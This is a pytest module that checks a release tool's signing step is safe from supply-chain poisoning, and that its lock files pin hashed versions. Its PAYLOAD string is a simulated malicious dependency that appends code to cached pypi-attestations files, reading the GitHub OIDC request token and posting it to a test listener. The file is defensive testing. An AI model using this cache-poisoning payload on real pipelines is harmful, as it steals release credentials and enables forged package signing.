"""The step that has the OIDC identity runs nothing that others could write to."""

from __future__ import annotations

import re
from collections.abc import Iterator
from pathlib import Path

import pytest
from packaging.requirements import Requirement
from release_attacks import Listener, listening, start
from tests.e2e.bench import Bench
from tests.e2e.release_bench import Description, Outside, Sample

from wheelwright.environment.tools import release_tool
from wheelwright.project.files import Snapshot
from wheelwright.project.model import describe

LOCKS = Path(__file__).parents[2] / "src" / "wheelwright" / "locks"

# As any dependency of the tests could: it fills the cache with the tool that signs, and puts code
# of its own into what lies unpacked there.
PAYLOAD = '''\
import glob
import os
import subprocess

CODE = """
import os as _os, urllib.request as _request
_body = _os.environ.get("ACTIONS_ID_TOKEN_REQUEST_TOKEN", "none").encode()
_request.urlopen(_request.Request("@LISTENER@/sign", _body))
"""


def test_as_any_dependency_could(tmp_path) -> None:
    tool = "pypi-attestations==@PIN@"
    python = f"--python={tmp_path}/e/bin/python"
    subprocess.run(["uv", "venv", "-q", f"{tmp_path}/e"], check=True)
    subprocess.run(["uv", "pip", "install", "-q", python, tool], check=True)
    for cache in ("/cache", "/opt", "/root", "/tmp"):
        pattern = f"{cache}/**/pypi_attestations/__init__.py"
        for path in glob.glob(pattern, recursive=True, include_hidden=True):
            os.chmod(path, 0o644)
            with open(path, "a") as file:
                file.write(CODE)
'''


@pytest.fixture
def listener() -> Iterator[Listener]:
    """Listen for what code of a package can tell."""
    with listening() as kept:
        yield kept


@pytest.mark.e2e
@pytest.mark.network
@pytest.mark.slow
def test_a_poisoned_cache_does_not_get_the_identity(
    stiletto: Bench, tmp_path: Path, described: Description, listener: Listener
) -> None:
    """Tests that edit the tool that signs where they can reach it learn nothing of the token."""
    payload = PAYLOAD.replace("@LISTENER@", listener.url)
    pin = re.search(r"(?m)^pypi-attestations==(\S+)", (LOCKS / "pypi-attestations.txt").read_text())
    assert pin
    payload = payload.replace("@PIN@", pin[1])
    with Outside(tmp_path / "outside", described) as outside:
        outside.index.trust_project("sample-package")
        files = {"tests/test_dependency.py": payload}
        at = start(stiletto, outside, tmp_path / "source", Sample(), files)
        ended = at.release_trusted("--attest=true")
        secrets = outside.secrets

    assert [] == listener.heard
    assert [] == [secret for secret in secrets if secret in ended.said]
    # No authority here signs for that identity: the release gets as far as asking one.
    assert "the attestation was not accepted" in ended.error, str(ended)
    (installed,) = (step for step in ended.ran if "pypi-attestations/bin/python" in step)
    assert "--require-hashes" in installed
    assert "--no-build" in installed


@pytest.mark.parametrize("lock", sorted(LOCKS.glob("*.txt")), ids=lambda path: path.stem)
def test_every_tool_of_the_module_is_locked_by_hashes(lock: Path) -> None:
    """The file has one version of the tool and of each requirement, and hashes for all."""
    text = lock.read_text()
    blocks = [block for block in re.split(r"(?m)^(?=[a-z0-9])", text) if block.strip()]
    found = [Requirement(block.partition("\\")[0].strip()) for block in blocks]

    assert lock.stem in [each.name for each in found]
    assert all(each.url is None and str(each.specifier).startswith("==") for each in found)
    assert all(re.search(r"--hash=sha256:[0-9a-f]{64}", block) for block in blocks)
    assert "index-url" not in text


@pytest.mark.parametrize("name", ["git-cliff", "towncrier", "twine"])
def test_the_lock_of_a_tool_has_the_pinned_version(name: str) -> None:
    """What a release runs in a version of the module's is the one that has hashes."""
    text = "[project]\nname = 'demo'\nversion = '1'\n"
    project = describe(Snapshot({"pyproject.toml": text}, frozenset({"pyproject.toml"})))
    tool = release_tool(project, name, "3.11")

    assert f"\n{tool.requirement} \\\n" in "\n" + (LOCKS / f"{name}.txt").read_text()
